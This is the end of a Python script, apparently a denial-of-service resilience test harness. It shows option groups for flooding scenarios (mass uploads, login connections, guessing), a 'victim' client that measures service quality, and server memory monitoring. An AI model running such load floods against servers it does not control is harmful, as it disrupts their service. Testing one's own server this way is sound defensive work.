    g.add_argument("--short-duration", type=float, default=40.0)
    g.add_argument("--upload-conns", type=int, default=1000)
    g.add_argument("--upload-duration", type=float, default=40.0,
                   help="whole scenario, uploading included")
    g.add_argument("--upload-bytes", type=int, default=MIB, help="announced Content-Length")
    g.add_argument("--upload-concurrency", type=int, default=100,
                   help="uploads pushing bytes at once (bounds this script's own buffers)")
    g.add_argument("--login-conns", type=int, default=300)
    g.add_argument("--login-timeout", type=float, default=60.0, help="per login request")
    g.add_argument("--guess-duration", type=float, default=10.0)
    g = p.add_argument_group("victim")
    g.add_argument("--victim-keepalive", type=int, default=2, help="keep-alive connections")
    g.add_argument("--victim-fresh", type=int, default=2, help="loops opening a connection per request")
    g.add_argument("--victim-interval", type=float, default=0.02, help="pause between a loop's requests")
    g.add_argument("--victim-timeout", type=float, default=5.0, help="per request, connect included")
    g.add_argument("--victim-error-pause", type=float, default=0.1)
    g.add_argument("--victim-limit", type=int, default=10)
    g = p.add_argument_group("plumbing")
    g.add_argument("--connect-concurrency", type=int, default=256)
    g.add_argument("--connect-timeout", type=float, default=10.0)
    g.add_argument("--request-timeout", type=float, default=10.0)
    g.add_argument("--rss-interval", type=float, default=0.1)
    g.add_argument("--settle", type=float, default=3.0, help="pause after each scenario")
    g.add_argument("--settle-max", type=float, default=30.0,
                   help="then wait at most this long for server RSS to return near its starting value")
    g.add_argument("--settle-rss-margin", type=float, default=32.0,
                   help="MiB above the starting RSS that counts as returned")
    g.add_argument("--grace", type=float, default=20.0, help="added to a scenario's duration for its hard cap")
    return p.parse_args(argv)


def main() -> int:
    args = parse_args()
    soft, hard = raise_nofile()
    print(f"RLIMIT_NOFILE now {soft}/{hard}", file=sys.stderr)
    try:
        return asyncio.run(amain(args))
    except KeyboardInterrupt:
        return 130


if __name__ == "__main__":
    sys.exit(main())
